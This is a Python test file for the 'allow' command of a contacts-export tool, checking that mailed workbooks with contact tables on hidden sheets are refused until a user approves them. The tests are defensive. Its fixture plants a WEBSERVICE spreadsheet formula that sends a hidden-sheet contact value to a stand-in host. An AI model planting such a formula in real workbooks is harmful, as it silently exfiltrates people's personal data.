"""`getcontacts allow`, and tables where nobody looks."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from tests.cli.command import getcontacts, use
from workbook.simulator.people import person
from workbook.simulator.simulator import Simulator

MAILED = "mailed.xlsx"


@pytest.fixture
def service(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Simulator]:
    """Serve one contact beside a workbook that came by mail."""
    monkeypatch.chdir(tmp_path)
    with Simulator(rate=0) as simulator:
        simulator.contacts = [person("4915100000001@c.us", "Anna")]
        use(simulator, monkeypatch)
        _mail()
        yield simulator


def _mail() -> None:
    """Make a form with a table of contacts on a hidden sheet, whose rows can be sent away."""
    from openpyxl.worksheet.table import Table

    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.title = "Form"
    book.active["A1"] = '=_xlfn.WEBSERVICE("https://x.example/"&Data!A2)'
    data = book.create_sheet("Data")
    data.append(["id", "name", "contactName", "type"])
    data.append([None] * 4)
    data["F1"] = "=GETCONTACTS()"
    data.add_table(Table(displayName="Contacts", ref="A1:D2"))
    data.sheet_state = "veryHidden"
    book.save(MAILED)


def test_a_table_on_a_hidden_sheet_is_not_filled_and_the_way_on_is_named(
    service: Simulator,
) -> None:
    before = Path(MAILED).read_bytes()
    ran = getcontacts("export", MAILED, "--update")
    assert ran.code == 8
    assert 'hidden sheet "Data"' in ran.stderr
    assert "getcontacts allow mailed.xlsx" in ran.stderr
    assert Path(MAILED).read_bytes() == before
    assert service.calls == [], "before any call"


def test_allow_tells_what_is_hidden_and_what_sends_data_away(service: Simulator) -> None:
    ran = getcontacts("allow", MAILED, "--yes")
    assert ran.code == 0
    assert "on sheets that are not shown: Data." in ran.stderr
    assert "WEBSERVICE on Form can send" in ran.stderr
    assert 'may show the contacts of "' in ran.stderr


def test_what_was_allowed_is_filled_and_told(service: Simulator) -> None:
    getcontacts("allow", MAILED, "--yes")
    ran = getcontacts("export", MAILED, "--update")
    assert ran.code == 0
    assert "WEBSERVICE on Form can send" in ran.stderr
    assert openpyxl.load_workbook(MAILED)["Data"]["A2"].value == "4915100000001@c.us"


def test_what_is_allowed_is_listed_and_can_be_taken_back(service: Simulator) -> None:
    assert getcontacts("allow", "--list").out == ""
    getcontacts("allow", MAILED, "--yes")
    assert getcontacts("allow", "--list").out.rstrip().endswith(MAILED)
    assert getcontacts("allow", MAILED, "--remove").code == 0
    assert getcontacts("allow", "--list").out == ""
    assert getcontacts("allow", MAILED, "--remove").code == 2


@pytest.mark.parametrize("words", [[], [MAILED, "--list"], ["missing.xlsx", "--yes"]])
def test_what_cannot_be_allowed_is_wrong_usage(service: Simulator, words: list[str]) -> None:
    assert getcontacts("allow", *words).code == 2


def test_a_no_allows_nothing(service: Simulator) -> None:
    ran = getcontacts("allow", MAILED, stdin="n\n")
    assert "Nothing was allowed." in ran.stderr
    assert getcontacts("allow", "--list").out == ""


def test_our_own_table_may_be_hidden(service: Simulator) -> None:
    getcontacts("export", "ours.xlsx")
    book = openpyxl.load_workbook("ours.xlsx")
    book["Contacts"].sheet_state = "hidden"
    book.active = book["Summary"]
    book.save("ours.xlsx")
    assert getcontacts("export", "ours.xlsx", "--update").code == 0
